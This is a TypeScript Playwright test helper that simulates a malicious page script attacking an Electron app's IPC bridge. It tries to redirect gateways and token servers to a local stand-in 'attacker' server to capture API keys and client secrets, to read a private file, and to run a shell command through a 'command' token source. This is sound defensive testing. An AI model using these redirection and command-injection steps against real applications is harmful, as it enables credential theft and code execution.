import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { unescape as percentDecoded } from 'node:querystring'
import type { ElectronApplication, Page } from '@playwright/test'
import { addressKeys, ConnectionPart, type ConnectionView, type MethodName, type PlanView } from '@shared/contract'
import { expect, type Machine, type RunningApp } from './app'
import { addPlan, keyIn } from './cli-desk'
import { companion } from './companion'
import { type HostileCall, HostileCalls, seeded, type Wanted } from './hostile-calls'
import { startSandbox, type TestSandbox } from './sandbox'

/** What the attacker puts on the clipboard in the place of a secret. */
const ownSecret = 'the-attackers-own-0123456789'
const privateText = 'private-text-of-a-person'
/** So many calls of the page run beside each other. */
const atOnce = 8

interface Answer {
  readonly ok: boolean
  readonly value?: unknown
}

/** A script in the page of the running app, and what it may ask. */
interface Script {
  call(name: string, input: unknown): Promise<Answer>
  all(calls: readonly HostileCall[]): Promise<Answer[]>
}

function scriptIn(page: Page): Script {
  const all = (calls: readonly { readonly name: string; readonly input: unknown }[]): Promise<Answer[]> =>
    page.evaluate((batch) => {
      const bridge: unknown = Reflect.get(globalThis, 'companion')
      const { call } = bridge as { call(name: string, input: unknown): Promise<Answer> }
      return Promise.all(batch.map(({ name, input }) => call(name, input)))
    }, calls)
  return { all, call: async (name, input) => (await all([{ name, input }]))[0] ?? { ok: false } }
}

/** A server of the attacker, which takes every request for its own. */
async function startForeignServer() {
  const received: string[] = []
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const headers = request.rawHeaders.map((text) => text.replace(/(?<=^Basic )\S+$/, readBasic))
      received.push(`${request.method} ${request.url}\n${headers.join('\n')}\n${Buffer.concat(chunks)}`)
      const answer = { access_token: ownSecret, expires_in: 3600, listData: [], data: [], accountId: 'x', credits: 1 }
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(answer))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const stop = (): void => {
    server.closeAllConnections()
    server.close()
  }
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received, stop }
}

/** Client id and secret of Basic credentials as they are, each of which is percent-encoded in there. */
const readBasic = (text: string): string => percentDecoded(Buffer.from(text, 'base64').toString())

/** Every file of a folder with its content. */
const contentsOf = (folder: string): Record<string, string> =>
  Object.fromEntries(
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => [join(parentPath, name), readFileSync(join(parentPath, name), 'latin1')]),
  )

interface Guard {
  /** Files below it are the person's own. */
  readonly folder: string
  /** How the person answers every question. */
  readonly isAgreeing: boolean
}

/** Answers every question of the system alike, opens nothing, and notes what would leave the app and which of the person's own files are opened. */
async function guardSystem(app: ElectronApplication, guard: Guard) {
  await app.evaluate(({ dialog, shell }, { folder, isAgreeing }) => {
    const seen = { questions: 0, opened: [] as string[], files: [] as string[] }
    Object.assign(globalThis, { seenByGuard: seen })
    dialog.showMessageBox = async () => {
      seen.questions += 1
      return { response: isAgreeing ? 0 : 1, checkboxChecked: false }
    }
    dialog.showOpenDialog = async () => ({ canceled: true, filePaths: [] })
    dialog.showSaveDialog = async () => ({ canceled: true, filePath: '' })
    shell.openExternal = async (url) => void seen.opened.push(url)
    shell.openPath = async (path) => {
      seen.opened.push(path)
      return ''
    }
    const fs = process.getBuiltinModule('node:fs')
    const watch = (holder: object, name: string): void => {
      const original: unknown = Reflect.get(holder, name)
      if (typeof original !== 'function') throw new Error(`There is no ${name}.`)
      Reflect.set(holder, name, (...args: unknown[]) => {
        if (String(args[0]).startsWith(folder)) seen.files.push(`${name} ${String(args[0])}`)
        return Reflect.apply(original, holder, args)
      })
    }
    for (const name of ['readFileSync', 'openSync', 'writeFileSync', 'readFile', 'open', 'createReadStream'])
      watch(fs, name)
    for (const name of ['readFile', 'open', 'writeFile', 'mkdir', 'readdir']) watch(fs.promises, name)
  }, guard)
  return (): Promise<{ questions: number; opened: string[]; files: string[] }> =>
    app.evaluate(() => Reflect.get(globalThis, 'seenByGuard'))
}

/** A person's machine with secrets, files of their own beside the app, and somebody else's server. */
async function prepare(machine: Machine) {
  const sandbox = await startSandbox()
  const key = keyIn(sandbox)
  await addPlan(machine, { name: 'team', gateway: sandbox.ready.gatewayUrl, key, models: ['aurora-large'] })
  const { tokenUrl, clientId, clientSecret } = sandbox.ready.iam
  const file = join(machine.home, 'lab.json')
  const tokenSource = { kind: 'client-credentials', tokenUrl, clientId }
  writeFileSync(file, JSON.stringify({ name: 'Lab', ...sandbox.ready.addresses, tokenSource }))
  const add = ['connection', 'add', '--file', file, '--secret-stdin']
  expect(await companion(machine, add, { input: clientSecret.expose() })).toMatchObject({ code: 0 })
  const outside = join(machine.home, '..', 'outside')
  mkdirSync(join(outside, 'project'), { recursive: true })
  writeFileSync(join(outside, 'private.txt'), privateText)
  const foreign = await startForeignServer()
  const canary = join(machine.home, '..', 'canary')
  const wanted: Wanted = {
    serverUrl: foreign.url,
    command: ['/bin/sh', '-c', `echo ran > '${canary}'`],
    file: join(outside, 'private.txt'),
    folder: join(outside, 'project'),
  }
  const secrets: Readonly<Record<string, string>> = { 'plan key': key, 'client secret': clientSecret.expose() }
  return { sandbox, secrets, outside, foreign, canary, wanted }
}

/** What an attack came to. */
interface Achieved {
  readonly programRan: boolean
  /** Credentials that arrived at the attacker's server and are not their own. */
  readonly credentials: readonly string[]
  /** Which secrets of the person arrived there. */
  readonly secrets: readonly string[]
  readonly changedOutside: boolean
  readonly opened: readonly string[]
  readonly files: readonly string[]
  readonly toldPrivateText: boolean
}

export const nothingAchieved: Achieved = {
  programRan: false,
  credentials: [],
  secrets: [],
  changedOutside: false,
  opened: [],
  files: [],
  toldPrivateText: false,
}

interface AttackOptions {
  readonly rounds: number
  readonly seed: number
  /** Whether the person agrees to every question; no when left out. */
  readonly isAgreeing?: boolean
}

/**
 * A script in the page tries to have a secret sent away, a program run, and a file read or written that is none of the app's: first by the ways
 * that somebody would think of, then by every method of the contract in so many rounds.
 */
export async function attackFromPage(
  machine: Machine,
  start: () => Promise<RunningApp>,
  { rounds, seed, isAgreeing = false }: AttackOptions,
): Promise<{ readonly achieved: Achieved; readonly questions: number }> {
  const { sandbox, secrets, outside, foreign, canary, wanted } = await prepare(machine)
  const before = contentsOf(outside)
  const { app, page } = await start()
  const seen = await guardSystem(app, { folder: outside, isAgreeing })
  const script = scriptIn(page)
  const told: unknown[] = []
  /** What the attacker copied can come to them as a credential: it was theirs before. */
  const copied = new Set<unknown>()
  const hostile = new HostileCalls(wanted, seeded(seed))
  const callAll = async (calls: readonly HostileCall[]): Promise<Answer[]> => {
    for (const { name, input } of calls) if (name === 'app.copyText') copied.add(Reflect.get(Object(input), 'text'))
    const answers = await script.all(calls)
    told.push(...answers)
    for (const { ok, value } of answers) if (ok) hostile.learn(value)
    return answers
  }
  const call: Attempt['call'] = async (name, input = {}) => (await callAll([{ name, input }]))[0] ?? { ok: false }
  await knownWays({ call, wanted, sandbox })
  for (let round = 0; round < rounds; round += 1) {
    await call('app.copyText', { text: ownSecret })
    const calls = hostile.round()
    for (let at = 0; at < calls.length; at += atOnce) await callAll(calls.slice(at, at + atOnce))
  }
  const { questions, opened, files } = await seen()
  const arrived = foreign.received.join('\n')
  const achieved = {
    programRan: existsSync(canary),
    credentials: credentialsIn(foreign.received, copied),
    secrets: Object.keys(secrets).filter((name) => arrived.includes(secrets[name] ?? '')),
    changedOutside: JSON.stringify(contentsOf(outside)) !== JSON.stringify(before),
    ...{ opened, files },
    toldPrivateText: JSON.stringify(told).includes(privateText),
  }
  foreign.stop()
  await sandbox.stop()
  return { achieved, questions }
}

/** The credentials in requests that are none of the attacker's own. */
const credentialsIn = (requests: readonly string[], own: ReadonlySet<unknown>): string[] =>
  requests.flatMap((request) =>
    [...request.matchAll(/\b(?:authorization|x-api-key)\n(?:Bearer |Basic [^:\n]*:)?(.*)/gi)].flatMap(
      ([, credential = '']) => (own.has(credential) ? [] : [`${request.split('\n')[0]}: ${credential}`]),
    ),
  )

interface Attempt {
  readonly call: (name: MethodName, input?: unknown) => Promise<Answer>
  readonly wanted: Wanted
  readonly sandbox: TestSandbox
}

/** The ways that somebody would think of. */
async function knownWays(attempt: Attempt): Promise<void> {
  await redirectPlans(attempt)
  const evilId = await foreignConnection(attempt)
  await redirectConnections(attempt)
  await carryHeldSecret(attempt, evilId)
  await runProgram(attempt)
  const { call, wanted } = attempt
  await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
  await call('app.openLink', { url: `${wanted.serverUrl}/?out` })
  const [plan] = await listed<PlanView>(call, 'plans.list')
  const choice = { toolId: 'claude-code', planId: plan?.id ?? '', modelCode: 'aurora-large' }
  const site = { kind: 'project', folder: wanted.folder }
  await call('tools.preview', { ...choice, site })
  await call('tools.drift', { toolId: 'claude-code', site })
  await call('doctor.run', { toolId: 'claude-code', site, callId: 'doctor' })
}

async function listed<T>(call: Attempt['call'], name: MethodName): Promise<T[]> {
  const { value } = await call(name)
  return Array.isArray(value) ? value : []
}

/** Another gateway for each plan; and its key by the clipboard. */
async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
  const gatewayUrl = wanted.serverUrl
  for (const { id: planId, name, models, keys } of await listed<PlanView>(call, 'plans.list')) {
    await call('plans.update', { planId, name, gatewayUrl, models })
    await call('plans.check', { planId })
    for (const { id: keyId } of keys) {
      await call('plans.copyKey', { planId, keyId })
      for (const take of [
        'plans.takeKeyFromClipboard',
        'connections.takeSecretFromClipboard',
        'resources.takeSecret',
      ] as const) {
        const pendingId = pendingIn(await call(take))
        await call('plans.checkNew', { gatewayUrl, pendingId })
        const added = await call('plans.add', { name: `copy-${take.length}`, gatewayUrl, models: [], pendingId })
        await call('plans.check', { planId: idIn(added) })
      }
    }
  }
}

const fieldOf = (answer: Answer, name: string): string => {
  const { value } = answer
  return typeof value === 'object' && value !== null ? String(Reflect.get(value, name) ?? 'none') : 'none'
}
const pendingIn = (answer: Answer): string => fieldOf(answer, 'pendingId')
const idIn = (answer: Answer): string => fieldOf(answer, 'id')

const everyAddress = (url: string): Record<string, string> =>
  Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))

/** A connection of the attacker's own: their addresses and their secret. */
async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
  await call('app.copyText', { text: ownSecret })
  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
  const addresses = everyAddress(wanted.serverUrl)
  const saved = await call('connections.save', {
    name: 'theirs',
    addresses,
    tokenSource: { kind: 'pasted' },
    pendingId,
  })
  const connection: unknown = Reflect.get(Object(saved.value), 'connection')
  return String(Reflect.get(Object(connection), 'id'))
}

/** Other addresses for each connection, with its secret, with another, and with another token server. */
async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
  const addresses = everyAddress(wanted.serverUrl)
  for (const { id, name, tokenSource } of await listed<ConnectionView>(call, 'connections.list')) {
    if (name === 'theirs') continue
    await call('app.copyText', { text: ownSecret })
    const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', {}))
    const moved =
      tokenSource?.kind === 'client-credentials' ? { ...tokenSource, tokenUrl: wanted.serverUrl } : tokenSource
    const changes = [
      { addresses, tokenSource },
      { addresses, tokenSource: moved },
      { addresses, tokenSource, pendingId },
    ]
    for (const change of changes) {
      await call('connections.save', { id, name, ...change })
      for (const part of ConnectionPart.options) await call('connections.test', { id, part, callId: `${id}-${part}` })
      await call('account.plans', { connectionId: id })
    }
  }
}

/** A secret of an answer, carried to the attacker's own connection. */
async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise<void> {
  const lab = (await listed<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
  const operation = 'aip.apiKeys.create'
  const made = await call('resources.call', { connectionId: lab?.id ?? '', operation, body: { name: 'stolen' } })
  const secrets: unknown = Reflect.get(Object(made.value), 'secrets')
  const [held]: unknown[] = Array.isArray(secrets) ? secrets : []
  const handle = String(Reflect.get(Object(held), 'handle'))
  await call('resources.call', { connectionId, operation, body: { name: { $held: handle } } })
  await call('resources.useForInference', { connectionId, of: { handle } })
  await call('resources.keepSecret', { handle, connectionId, kind: 'platformApiKey', name: 'carried' })
  await call('resources.copySecret', { handle })
  const pendingId = pendingIn(await call('resources.takeSecret'))
  await call('resources.call', { connectionId, operation, body: { name: { $pending: pendingId } } })
  await call('playground.keepApiKey', { connectionId, pendingId })
  const target = { kind: 'platform', connectionId, credential: 'apiKey', modelCode: 'm' }
  await call('playground.complete', { target, prompt: 'hello', parameters: {} })
}

/** A program for the tokens of a connection. */
async function runProgram({ call, wanted }: Attempt): Promise<void> {
  const tokenSource = { kind: 'command', command: wanted.command }
  const addresses = everyAddress(wanted.serverUrl)
  await call('connections.save', { name: 'runs', addresses, tokenSource })
  for (const { id } of await listed<ConnectionView>(call, 'connections.list')) {
    await call('connections.save', { id, name: `runs-${id.slice(0, 8)}`, addresses, tokenSource })
    await call('connections.test', { id, part: 'token', callId: `run-${id}` })
  }
}
